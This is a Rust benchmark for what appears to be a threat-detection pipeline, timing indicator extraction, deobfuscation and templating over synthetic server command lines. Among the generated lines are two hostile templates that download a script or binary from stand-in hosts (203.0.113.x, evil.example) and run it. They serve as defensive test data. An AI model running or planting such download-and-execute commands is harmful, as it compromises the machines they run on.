//! Extraction over distinct command lines, MB/s on one core: `cargo bench -p ringleader-pipeline --bench extract`.
//! An argument names one measurement, or a file of lines to read instead of the generated ones.

use std::hint::black_box;
use std::time::Instant;

use ringleader_pipeline::extract::{Extractor, template};
use ringleader_pipeline::shell;

/// Deterministic, so that two runs measure the same text.
struct Random(u64);

impl Random {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
    fn below(&mut self, limit: u64) -> u64 {
        self.next() % limit
    }
}

/// What a busy fleet runs; `hostile`: one line in eight is an intruder's, full of indicators.
fn lines(count: usize, hostile: bool) -> Vec<String> {
    let mut random = Random(0x5eed);
    (0..count)
        .map(|_| {
            let (a, b, c) = (random.below(100_000), random.below(250), random.below(65_000));
            match if hostile { random.below(16) } else { 2 + random.below(14) } {
                0 => format!("/bin/busybox wget -O /tmp/p{b} http://203.0.113.{b}/.y/p{a}; chmod +x /tmp/p{b}; /tmp/p{b} &"),
                1 => format!("bash -c \"curl -fsSL https://cdn{a}.evil.example/i.sh?h={c} | sh\""),
                2..=4 => format!(
                    "/usr/bin/java -Xms2g -Xmx2g -XX:+UseG1GC -Djava.io.tmpdir=/var/cache/app{b} -cp /opt/app/lib/core-{b}.jar:/opt/app/lib/net.jar com.company.service.Main --worker {a} --port {c}"
                ),
                5 | 6 => format!("/usr/bin/python3 /opt/jobs/etl.py --date 2024-03-{:02} --shard {a} --queue orders-{c}", b % 28 + 1),
                7 => format!("sh -c ps aux | grep worker-{a} | grep -v grep | awk '{{print $2}}' | head -n {b}"),
                8 => format!("/usr/sbin/sshd -D -R -o LogLevel=INFO session {a} {c}"),
                9 => format!("php-fpm: pool www{b} child {a}"),
                10 => format!("/usr/local/bin/node /srv/web/server.js --instance {a} --cluster eu-west-{b} --max-old-space-size=4096"),
                11 => format!("git --git-dir=/srv/git/repo{b}.git pack-objects --revs --thin --stdout --delta-base-offset --pid {a}"),
                12 => format!("/usr/lib/postgresql/14/bin/postgres -D /var/lib/postgresql/14/main -c config_file=/etc/postgresql/14/main/postgresql.conf -p {c}"),
                13 => format!("tar -czf /var/backups/db-{a}.tar.gz --exclude=*.log /var/lib/data/{b} /var/lib/index/{c}"),
                14 => format!("containerd-shim-runc-v2 -namespace moby -id {:016x}{:016x} -address /run/containerd/containerd.sock", random.next(), random.next()),
                _ => format!("find /var/log/app{b} -type f -name app-{a}.log -mtime +{} -size +{c}k -print", b % 30),
            }
        })
        .collect()
}

fn main() {
    let file = std::env::args().skip(1).find(|it| std::path::Path::new(it).is_file());
    let lines = match &file {
        Some(path) => {
            String::from_utf8_lossy(&std::fs::read(path).expect("the named file")).lines().map(str::to_owned).collect()
        }
        None => lines(200_000, true),
    };
    let bytes: usize = lines.iter().map(String::len).sum();
    let extractor = Extractor::new();
    let mut out = Vec::new();
    let mut found = 0;
    measure("extract", bytes, || {
        found = 0;
        for line in &lines {
            extractor.extract(black_box(line), &mut out);
            found += out.len();
        }
    });
    println!("{} lines, {found} indicators", lines.len());
    if file.is_none() {
        let quiet = self::lines(200_000, false);
        measure("quiet", quiet.iter().map(String::len).sum(), || {
            for line in &quiet {
                extractor.extract(black_box(line), &mut out);
            }
        });
    }
    measure("deobfuscate", bytes, || {
        for line in &lines {
            black_box(ringleader_pipeline::extract::deobfuscate(black_box(line)));
        }
    });
    measure("decoded", bytes, || {
        for line in &lines {
            black_box(extractor.decoded(black_box(line)));
        }
    });
    measure("template", bytes, || {
        for line in &lines {
            black_box(template::template(black_box(line)));
        }
    });
    let few = &lines[..lines.len().min(20_000)];
    measure("would_run", few.iter().map(String::len).sum(), || {
        for line in few {
            black_box(shell::would_run(black_box(line)));
        }
    });
}

/// The best of several rounds, in time on the processor: other work on the machine does not count.
fn measure(name: &str, bytes: usize, mut work: impl FnMut()) {
    const NAMES: &[&str] = &["extract", "quiet", "deobfuscate", "decoded", "template", "would_run"];
    if std::env::args().any(|it| NAMES.contains(&it.as_str())) && !std::env::args().any(|it| it == name) {
        return;
    }
    let start = Instant::now();
    let now = || match std::fs::read_to_string("/proc/self/schedstat") {
        Ok(text) => text.split(' ').next().and_then(|it| it.parse::<f64>().ok()).unwrap_or_default() / 1e9,
        Err(_) => start.elapsed().as_secs_f64(),
    };
    let best = (0..5)
        .map(|_| {
            let before = now();
            work();
            now() - before
        })
        .fold(f64::INFINITY, f64::min);
    println!("{name}: {:.0} MB/s over {:.1} MB", bytes as f64 / best / 1e6, bytes as f64 / 1e6);
}
